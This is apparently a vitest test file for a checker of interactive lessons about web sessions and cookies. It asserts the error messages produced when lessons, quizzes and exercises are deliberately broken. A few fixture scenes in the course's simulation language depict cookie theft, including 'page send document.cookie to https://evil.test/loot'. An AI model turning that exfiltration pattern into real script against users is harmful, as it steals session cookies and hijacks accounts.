import { expect, test } from "vitest";
import { FEW_FILES } from "../../course.ts";
import { run } from "../program-host.ts";

/**
 * Every way in which a lesson may be broken, applied to a copy of the real ones: the replacement, the words in the
 * broken file at which the mark should be, and the sentence.
 */
interface Break {
  readonly what: string;
  readonly path?: string;
  readonly from: string | RegExp;
  readonly to: string;
  /** The mark is at the start of these words. */
  readonly at: string;
  readonly says: string | RegExp;
}

const LOGIN = "03-sessions/01-session-login.md";
const WORLD = "worlds/shop-session.md";

/** An exercise to be broken, in place of the lesson's own. */
const TRY = `\`\`\`try delete-the-row
Log shivam out, and nobody else.
world: shop-session
start:
  server add user maya id 46 role customer password blue-kettle
  browser submit /login with username=maya password=blue-kettle
  browser clear cookies
  browser submit /login with username=shivam password=correct-horse
goal:
  sessions lack def456 | The row of shivam is gone
  sessions have abc123 | maya is still logged in
  jar has sessionId with def456 | His browser still has its cookie
  last response 401 because session-not-found | His next request gets a 401
hint: The browser holds only a label. Where is the session itself?
hint: It is a row in the table of the server.
hint: server delete session def456, and after it: browser open /profile
solution:
  server delete session def456
  browser open /profile
why: The server looks in its table at every request.
\`\`\``;

/** The lessons that are broken below: every break reads and runs them all, and what is broken is looked at in every picture. */
const COPY = new Map(
  [...FEW_FILES].map(([path, text]) => [
    `mine/${path}`,
    path.endsWith("session-logout.md") ? text.replace(/```try [\s\S]*?^```$/m, () => TRY) : text,
  ]),
);

const FRONT: readonly Break[] = [
  {
    what: "an unknown key",
    from: "minutes: 2",
    to: "minuts: 5",
    at: "minuts",
    says: /^There is no key "minuts"\. Did you mean "minutes"\? /,
  },
  {
    what: "a value of the wrong kind",
    from: "minutes: 2",
    to: "minutes: five",
    at: "minutes: five",
    says: '"minutes" should be a number.',
  },
  {
    what: "YAML that is none",
    from: "goal: Follow",
    to: "goal: Now: follow",
    at: "Now: follow",
    says: /^Nested mappings are not allowed/,
  },
  { what: "no goal", from: /goal: .+\n/, to: "", at: "title:", says: 'The key "goal" is missing.' },
  {
    what: "an empty line in the summary",
    from: /- The cookie carries.+/,
    to: '- ""',
    at: "summary:",
    says: "The summary has an empty line, or none at all.",
  },
  {
    what: "an unknown world",
    from: "world: shop-session",
    to: "world: shop-sesion",
    at: "world: shop-sesion",
    says: 'There is no world "shop-sesion". Did you mean "shop-session"?',
  },
  {
    what: "a need that is no lesson",
    from: "needs: [cookie-is-storage]",
    to: "needs: [cookie-is-stored]",
    at: "needs: [cookie-is-stored]",
    says: 'needs names "cookie-is-stored", and there is no such lesson. Did you mean "cookie-is-storage"?',
  },
  {
    what: "needs in a circle",
    path: "01-the-problem/01-http-forgets.md",
    from: "minutes:",
    to: "needs: [cookie-jar]\nminutes:",
    at: "needs: [cookie-jar]",
    says: "needs goes in a circle: http-forgets needs cookie-jar needs http-forgets.",
  },
];

const STEPS: readonly Break[] = [
  {
    what: "a verb that is none",
    from: "browser open /profile",
    to: "browser opne /profile",
    at: "opne",
    says: /^"opne" does not fit here\. Did you mean "open"\? /,
  },
  {
    what: "a value that is none",
    from: "browser open /profile",
    to: "browser open profile",
    at: "profile\n  request.sent: The browser sends",
    says: /^"profile" is not an address\. /,
  },
  {
    what: "a step that this world does not allow",
    from: "browser open /profile",
    to: "server delete session zzz\nbrowser open /profile",
    at: "zzz",
    says: /^The session table has no zzz\. It has: abc123\./,
  },
  {
    what: "a quote that is never closed",
    from: "browser open /profile",
    to: 'browser edit cookie a "b\nbrowser open /profile',
    at: '"b',
    says: /^This quote is never closed\./,
  },
  {
    what: "words for an event that does not come",
    from: "session.created: The server",
    to: "token.signed: The server",
    at: "\n  token.signed",
    says: "This step never brings token.signed.",
  },
  {
    what: "words for an event that is none",
    from: "session.created: The server",
    to: "sesion.created: The server",
    at: "sesion.created",
    says: 'There is no event called "sesion.created". Did you mean "session.created"?',
  },
  {
    what: "a step of a world",
    path: WORLD,
    from: "server set mode session",
    to: "server set mode sesion",
    at: "sesion\n",
    says: /^"sesion" is not one of: .* Did you mean "session"\?$/,
  },
  {
    what: "a world without a scene",
    path: WORLD,
    from: /```scene/,
    to: "```text",
    at: "\n\n```text",
    says: "A world needs one scene: ```scene … ```.",
  },
];

const CLAIMS: readonly Break[] = [
  {
    what: "a claim that is false",
    from: "sessions have abc123",
    to: "sessions lack abc123",
    at: "sessions lack abc123",
    says: "This does not hold: sessions lack abc123. The session table has abc123.",
  },
  {
    what: "a claim that is none",
    from: "sessions have abc123",
    to: "sessions hvae abc123",
    at: "hvae",
    says: /^"hvae" does not fit here\. Did you mean "have"\? /,
  },
  {
    what: "a claim about an event that is none",
    from: "never access.denied",
    to: "never acess.denied",
    at: "acess.denied",
    says: 'There is no event called "acess.denied". Did you mean "access.denied"?',
  },
  {
    what: "a claim about a refusal that is none",
    from: "last response 200\n",
    to: "last response 200 because session-not-fond\n",
    at: "session-not-fond",
    says: /^There is no refusal called "session-not-fond"\. Did you mean "session-not-found"\?/,
  },
];

const PICTURES: readonly Break[] = [
  {
    what: "a picture of another server than the one that the words are about",
    path: "01-the-problem/01-http-forgets.md",
    from: /$/,
    to: [
      "```scene",
      "server start evil.test",
      "quietly browser submit https://shop.test/login with username=shivam password=correct-horse",
      "quietly browser open https://evil.test/",
      "  in short: He logs in at the shop.",
      "```",
      "",
    ].join("\n"),
    at: "\n  in short: He logs in",
    says: /^At 100 by 30: The words are about shop\.test, and evil\.test is in view: .* \(He logs in at the shop\./,
  },
  {
    what: "words about what was before the request in view",
    path: "01-the-problem/01-http-forgets.md",
    from: /$/,
    to: [
      "```scene",
      "server start evil.test",
      "quietly page send document.cookie to https://evil.test/loot",
      "  script.ran: A script reads the cookies.",
      "```",
      "",
    ].join("\n"),
    at: "\n  script.ran: A script reads",
    says: /^At 100 by 30: POST https:\/\/evil\.test\/loot is in view, and the words are about what was before it\. \(A script reads/,
  },
  {
    what: "a value in the words that nobody sees",
    path: "01-the-problem/01-http-forgets.md",
    from: /$/,
    to: [
      "```scene",
      "browser open /profile",
      "  request.sent: The cookie theme=dark is not there yet.",
      'quietly page write document.cookie "theme=dark"',
      "  in short: A script sets it.",
      "quietly browser open /profile",
      "  in short: And now it goes along.",
      "```",
      "",
    ].join("\n"),
    at: "\n  request.sent: The cookie theme",
    says: /^At 100 by 30: The headline names theme=, which is not in view\. \(The cookie theme/,
  },
  {
    what: "a stage that is never reached",
    from: "| session.stored",
    to: "| session.deleted",
    at: "Session stored in DB/memory",
    says: 'The stage "Session stored in DB/memory" is never reached: no session.deleted comes after the stage before.',
  },
  {
    what: "stages in the wrong order",
    from: "| session.created",
    to: "| cookie.stored",
    at: "Session stored in DB/memory",
    says: /^The stage "Session stored in DB\/memory" is never reached: no session\.stored comes after/,
  },
  {
    what: "a stage without its event",
    from: "| Store       | session.stored",
    to: "| Store",
    at: "Session stored in DB/memory",
    says: /^A stage is "Label \| Short \| event"/,
  },
  {
    what: "a stage with an event that is none",
    from: "| session.stored",
    to: "| sesion.stored",
    at: "sesion.stored",
    says: 'There is no event called "sesion.stored". Did you mean "session.stored"?',
  },
  {
    what: "a line of code that never lights up",
    from: "<- session.stored",
    to: "<- session.deleted",
    at: "  sessions.set(",
    says: "This line never lights up: no scene after it brings session.deleted.",
  },
  {
    what: "a line of code with an event that is none",
    from: "<- session.stored",
    to: "<- sesion.stored",
    at: "// <- sesion.stored",
    says: 'There is no event called "sesion.stored". Did you mean "session.stored"?',
  },
  {
    what: "a page that is too long",
    from: "A cookie alone proves nothing.",
    to: Array.from({ length: 20 }, () => "A cookie alone proves nothing.").join("\n\n"),
    at: "A cookie alone proves nothing.",
    says: /^This page has \d+ rows too many for 60 by 18\. Divide it with ---\.$/,
  },
  {
    what: "words that are too long",
    from: "A label, nothing more.",
    to: "A label, nothing more. ".repeat(30),
    at: "\n  session.created:",
    says: /^These words have \d+ rows too many for 60 by 18: /,
  },
  {
    what: "a question that is too long",
    from: "The cookie is the label, the table has the facts.",
    to: "The cookie is the label, the table has the facts. ".repeat(30),
    at: "\n? shivam opens",
    says: /^This question has \d+ rows too many for 60 by 18\. /,
  },
];

const QUESTIONS: readonly Break[] = [
  {
    what: "a quiz with no right answer",
    from: "+ In the session table",
    to: "- In the session table",
    at: "\nWhere is it written",
    says: "A question has exactly one right answer (+). This one has 0.",
  },
  {
    what: "a quiz with two right answers",
    from: "- In the cookie.",
    to: "+ In the cookie.",
    at: "\nWhere is it written",
    says: "A question has exactly one right answer (+). This one has 2.",
  },
  {
    what: "a prediction with two right answers",
    from: "- The browser sends his password",
    to: "+ The browser sends his password",
    at: "\n? shivam opens",
    says: "A question has exactly one right answer (+). This one has 2.",
  },
  {
    what: "a header to be typed that does not come",
    from: /^(\? shivam opens .*)\n(?: +[-+] .*\n)+/m,
    to: "? shivam opens /profile. Which header?\n  = Cookie: sessionId=xyz | It is his.\n",
    at: "= Cookie",
    says: "This does not come: Cookie: sessionId=xyz. The message has Cookie: sessionId=abc123",
  },
  {
    what: "a header to be typed, with a reason that fits no screen",
    from: /^(\? shivam opens .*)\n(?: +[-+] .*\n)+/m,
    to: `? shivam opens /profile. Which header?\n  = Cookie: sessionId=abc123 | ${"A long reason. ".repeat(40)}\n`,
    at: "\n? shivam opens",
    says: /^This question has \d+ rows too many for 60 by 18\. Make it or its reason shorter\.$/,
  },
  {
    what: "a wrong answer without its reason",
    from: /- In the cookie\. \|.+/,
    to: "- In the cookie.",
    at: "\n- In the cookie.",
    says: 'This answer needs a reason: "- In the cookie. | Because …".',
  },
  {
    what: "a right answer without its reason",
    from: /\+ In the session table, on the server\. \|.+/,
    to: "+ In the session table.",
    at: "\n+ In the session table.",
    says: 'This answer needs a reason: "+ In the session table. | Because …".',
  },
  {
    what: "an answer without words",
    from: "- In the cookie. |",
    to: "-  |",
    at: "\nWhere is it written",
    says: "This question, or one of its answers, has no words.",
  },
  {
    what: "a line in a quiz that is no answer",
    from: "- In the cookie. |",
    to: "In the cookie. |",
    at: "\nIn the cookie. |",
    says: 'An answer is "+ the right one | why" or "- a wrong one | why".',
  },
  {
    what: "a question with no step after it",
    from: /browser open \/profile[^`]+/,
    to: "",
    at: "? shivam opens",
    says: "There is a question at the end, with no step after it.",
  },
];

const TASK = "Log shivam out, and nobody else.";

const TRIES: readonly Break[] = [
  {
    what: "a try that is solved before it begins",
    from: /goal:\n(.*\n){4}/,
    to: "goal:\n  sessions have def456 | The row is there\n",
    at: TASK,
    says: 'The exercise "delete-the-row" is solved before it begins: every goal holds at its start.',
  },
  {
    what: "a try that its solution does not solve",
    from: "  server delete session def456\n  browser open /profile",
    to: "  server delete session def456",
    at: "\n  last response 401",
    says: "The solution does not reach this goal: last response 401 because session-not-found. No response has been sent.",
  },
  {
    what: "a solution that this world does not allow",
    from: "  server delete session def456\n",
    to: "  server delete session zzz\n",
    at: "zzz",
    says: "The session table has no zzz. It has: abc123, def456.",
  },
  {
    what: "a start that is no step",
    from: "start:\n  server add user",
    to: "start:\n  server ad user",
    at: "ad user",
    says: /^"ad" does not fit here\. Did you mean "add"\? /,
  },
  {
    what: "a try in a world that is not there",
    from: "world: shop-session\nstart:",
    to: "world: shop-sesion\nstart:",
    at: "shop-sesion",
    says: 'There is no world "shop-sesion". Did you mean "shop-session"?',
  },
  {
    what: "a goal that is no claim",
    from: "sessions lack def456 | The row",
    to: "sessions lcak def456 | The row",
    at: "lcak",
    says: /^"lcak" does not fit here\. Did you mean "lack"\? /,
  },
  {
    what: "a goal without its words",
    from: " | The row of shivam is gone",
    to: "",
    at: "sessions lack def456\n  sessions have",
    says: 'A goal needs its words: "sessions lack abc123 | The row is gone".',
  },
  {
    what: "an empty hint",
    from: /hint: The browser holds only.+/,
    to: "hint:",
    at: "\nhint:\n",
    says: "This hint is empty.",
  },
  {
    what: "a hint that is missing",
    from: /hint: The browser holds only.+\n/,
    to: "",
    at: TASK,
    says: "An exercise has 3 hints, from a nudge to the step itself. This one has 2.",
  },
  {
    what: "a try without a solution",
    from: /solution:\n(.*\n){2}/,
    to: "",
    at: TASK,
    says: "An exercise has a solution: steps that reach its goal.",
  },
  {
    what: "a try without its why",
    from: /why: The server looks.+\n/,
    to: "",
    at: TASK,
    says: "An exercise says at its end why: what there was to learn.",
  },
  {
    what: "a try that is too long",
    from: TASK,
    to: `${TASK}. `.repeat(30),
    at: TASK,
    says: /^This exercise has \d+ rows too many for 60 by 18\. /,
  },
].map((broken) => ({ path: "03-sessions/05-session-logout.md", ...broken }));

const MARKDOWN: readonly Break[] = [
  {
    what: "a fence that is none",
    from: "```quiz",
    to: "```quizz",
    at: "quizz",
    says: 'There is no fence "quizz". Did you mean "quiz"?',
  },
  {
    what: "an empty fence",
    from: "shivam is logged in.",
    to: "```expect\n# to do\n```\n\nshivam is logged in.",
    at: "```expect\n# to do",
    says: "This fence is empty. Fill it, or take it out.",
  },
  {
    what: "an empty heading",
    from: "shivam is logged in.",
    to: "##\n\nshivam is logged in.",
    at: "\n##\n",
    says: "Something on this page is empty: a heading, a list item or a code.",
  },
  {
    what: "a link to a file that is not there",
    from: "shivam is logged in.",
    to: "shivam is [logged in](../02-cookies/01-cooky-jar.md).",
    at: "../02-cookies/01-cooky-jar.md",
    says: 'There is no file "mine/02-cookies/01-cooky-jar.md" to link to. Did you mean "mine/02-cookies/01-cookie-jar.md"?',
  },
  {
    what: "a link to a lesson that is not there",
    from: "shivam is logged in.",
    to: "shivam is [logged in](cooky-jar).",
    at: "cooky-jar",
    says: 'There is no lesson "cooky-jar". Did you mean "cookie-jar"?',
  },
  {
    what: "Markdown that a stage cannot show",
    from: "shivam is logged in.",
    to: "<b>shivam</b>\n\nis logged in.",
    at: "<b>shivam",
    says: /cannot show/,
  },
];

const BREAKS = [...FRONT, ...STEPS, ...CLAIMS, ...PICTURES, ...QUESTIONS, ...TRIES, ...MARKDOWN];

test.each(BREAKS)("$what", async ({ path = LOGIN, from, to, at, says }) => {
  const whole = COPY.get(`mine/${path}`) ?? "";
  const broken = whole.replace(from, () => to);
  expect(broken).not.toBe(whole);
  const files = new Map(COPY).set(`mine/${path}`, broken);
  const named = path === WORLD ? "mine" : `mine/${path}`;
  const { code, out, err } = await run(["check", named], { files });
  expect({ code, err }).toEqual({ code: 1, err: "" });
  const [, place, message] = /^(.+:\d+:\d+) {2}(.+)$/m.exec(out) ?? [];
  expect({ place, message }).toEqual({
    place: `mine/${path}:${placeOf(at, broken)}`,
    message: typeof says === "string" ? says : expect.stringMatching(says),
  });
});

/** Line and column of words in a text; words that begin with a line break are those at the beginning of the next line. */
function placeOf(words: string, text: string): string {
  const start = text.indexOf(words);
  expect(start).toBeGreaterThanOrEqual(0);
  const before = text.slice(0, words.startsWith("\n") ? start + 1 : start).split("\n");
  return `${before.length}:${(before.at(-1) ?? "").length + 1}`;
}

test("a lesson that is broken is found in the folder that it stands in", async () => {
  const path = `mine/${LOGIN}`;
  const files = new Map(COPY).set(path, (COPY.get(path) ?? "").replace("minutes: 2", "minuts: 5"));
  const { code, out } = await run(["check", "mine"], { files });
  expect({ code, out }).toEqual({ code: 1, out: expect.stringContaining(`${path}:`) });
});

test("unbroken, they hold", async () => {
  expect((await run(["check", "mine"], { files: COPY })).out).toBe("4 lessons checked: all hold.\n");
});
